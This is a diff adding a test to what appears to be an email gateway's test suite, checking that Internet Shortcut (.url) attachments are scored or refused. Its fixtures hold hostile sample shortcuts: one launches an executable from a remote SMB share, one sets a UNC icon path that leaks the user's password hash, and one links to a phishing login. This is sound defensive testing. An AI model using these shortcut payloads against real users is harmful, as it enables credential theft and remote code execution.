@@ -127,6 +127,36 @@ def test_executable_attachments_and_archives(make_gateway, sink):
     wait_for(lambda: sink.stats()["messages"] == 1, what="clean delivery")
 
 
+def test_internet_shortcuts_are_read_for_where_they_point(make_gateway, sink):
+    g = make_gateway(sink.port, knobs(), start=False)
+    lists = g.state / "lists"
+    lists.mkdir(parents=True)
+    (lists / "url-blacklist.txt").write_text("*.phish.example\n")
+    g.start()
+    # A link sent as a file, as Outlook Express did: passed, with a small score.
+    web = b"[DEFAULT]\r\nBASEURL=http://www.example.edu/lib.html\r\n[InternetShortcut]\r\nURL=http://www.example.edu/lib.html\r\n"
+    code, text = send(g.port, with_attachment("Liberalism in America.url", web))
+    assert code == 250, (code, text)
+    wait_for(lambda: accepted_symbols(g), what="the accepted event")
+    assert "ATTACH_SHORTCUT(1.5)" in accepted_symbols(g)[-1]
+    # A shortcut that runs a program from a share, and one whose icon leaks the user's hash: refused.
+    share = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
+    code, _ = send(g.port, with_attachment("invoice.url", share))
+    assert code == 550
+    ev = g.wait_events("message_rejected")
+    assert "ATTACH_SHORTCUT_UNSAFE" in ev[-1]["symbols"] and "file://198.51.100.7" in str(ev[-1]), ev
+    icon = b"[InternetShortcut]\r\nURL=https://www.example.edu/\r\nIconFile=\\\\198.51.100.7\\i\\a.ico\r\n"
+    code, _ = send(g.port, with_attachment("site.url", zip_bytes([("site.url", icon)]), "application/zip"))
+    assert code == 550
+    assert "ATTACH_SHORTCUT_UNSAFE" in g.wait_events("message_rejected", n=2)[-1]["symbols"]
+    # The shortcut's web address is checked like a link in the text.
+    phish = b"[InternetShortcut]\r\nURL=https://login.phish.example/account\r\n"
+    code, _ = send(g.port, with_attachment("account.url", phish))
+    assert code == 550
+    assert "URL_BL" in g.wait_events("message_rejected", n=3)[-1]["symbols"]
+    wait_for(lambda: sink.stats()["messages"] == 1, what="the web shortcut delivered")
+
+
 def test_a_domain_can_turn_a_content_check_off(make_gateway, sink):
     g = make_gateway(sink.port, knobs(relay__domains="example.test,other.test"), start=False)
     lists = g.state / "lists"
